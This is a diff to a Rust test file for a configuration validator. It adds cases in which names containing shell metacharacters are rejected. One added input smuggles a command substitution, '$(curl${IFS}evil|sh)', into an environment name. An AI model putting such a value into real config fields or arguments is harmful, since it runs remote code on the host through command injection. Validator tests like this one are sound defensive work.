@@ -171,6 +171,11 @@ fn values_that_mean_nothing_are_refused() {
         ("[environments.'a/b']", "1:15: a name cannot contain white space, control characters or `/`"),
         ("[environments.\"a\\u001b\"]", "1:15: a name cannot contain white space, control characters or `/`"),
         ("[environments.'']", "1:15: the name is empty"),
+        (
+            "[environments.'qa$(curl${IFS}evil|sh)']",
+            "1:15: a name cannot contain what means something to a shell: $`\\\"'!#&;|<>()[]{}?~^",
+        ),
+        ("[roles.'a;b']", "1:8: a name cannot contain what means something to a shell: $`\\\"'!#&;|<>()[]{}?~^"),
         ("[environments.-a]", "1:15: a name cannot begin with `-`"),
         ("[environments.qa]\ncontext = ' '", "2:11: the value is empty"),
         ("[environments.qa]\nnamespace = 'Shop'", "2:13: a namespace is up to 63 lower-case letters, digits and `-`"),
